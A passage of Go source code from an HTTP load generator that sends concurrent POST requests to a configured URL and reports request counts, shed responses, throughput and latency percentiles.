				status, err := fire(ctx, client, cfg, body)
				lat := time.Since(t0)
				if err != nil {
					if ctx.Err() != nil {
						return // the run ended mid-request; not a failure
					}
					mu.Lock()
					res.Errors++
					mu.Unlock()
					continue
				}
				mu.Lock()
				res.Requests++
				res.Status[status]++
				if status == http.StatusTooManyRequests || status == http.StatusServiceUnavailable {
					res.Shed++
				}
				res.BytesSent += int64(len(body))
				lats = append(lats, lat)
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	res.Elapsed = time.Since(start)
	if res.Elapsed > 0 {
		res.AchievedQPS = float64(res.Requests) / res.Elapsed.Seconds()
	}
	summarize(res, lats)
	return res, nil
}

// fire sends one request and returns the status code.
func fire(ctx context.Context, client *http.Client, cfg LoadConfig, body []byte) (int, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, cfg.URL, bytes.NewReader(body))
	if err != nil {
		return 0, fmt.Errorf("serve: loadgen request: %w", err)
	}
	req.Header.Set("Content-Type", "text/html; charset=utf-8")
	req.Header.Set("X-Tenant", cfg.Tenant)
	resp, err := client.Do(req)
	if err != nil {
		return 0, fmt.Errorf("serve: loadgen send: %w", err)
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	_ = resp.Body.Close()
	return resp.StatusCode, nil
}

func summarize(res *LoadResult, lats []time.Duration) {
	if len(lats) == 0 {
		return
	}
	sort.Slice(lats, func(i, j int) bool { return lats[i] < lats[j] })
	var sum time.Duration
	for _, l := range lats {
		sum += l
	}
	res.Mean = sum / time.Duration(len(lats))
	res.P50 = pct(lats, 0.50)
	res.P95 = pct(lats, 0.95)
	res.P99 = pct(lats, 0.99)
	res.Max = lats[len(lats)-1]
}

// pct indexes the q-quantile of a sorted latency slice.
func pct(sorted []time.Duration, q float64) time.Duration {
	i := int(q * float64(len(sorted)-1))
	return sorted[i]
}
